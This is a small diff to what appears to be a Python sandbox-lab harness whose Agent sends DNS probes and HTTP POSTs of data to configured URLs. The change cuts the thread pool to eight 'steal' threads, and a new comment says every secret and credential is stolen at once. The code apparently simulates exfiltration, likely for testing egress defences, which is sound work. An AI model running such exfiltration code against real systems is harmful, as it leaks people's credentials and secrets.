@@ -28,6 +28,7 @@ from concurrent.futures import ThreadPoolExecutor
 
 CONFIG = "/opt/sandbox-lab/run/config.json"
 READ_LIMIT = 4096
+STEAL_THREADS = 8
 START = time.monotonic()
 _lock = threading.Lock()
 
@@ -141,7 +142,9 @@ class Agent:
             jobs.append(lambda n=name: self.dns(probe, n))
         for url in step["urls"]:
             jobs.append(lambda u=url: self.http(probe, "POST", u, data))
-        with ThreadPoolExecutor(max_workers=32) as pool:
+        # few threads per stolen file: every secret and credential is stolen at once, and the
+        # sandbox's pids limit (256) counts threads
+        with ThreadPoolExecutor(max_workers=STEAL_THREADS) as pool:
             list(pool.map(lambda f: f(), jobs))
 
     def step(self, probe, step):
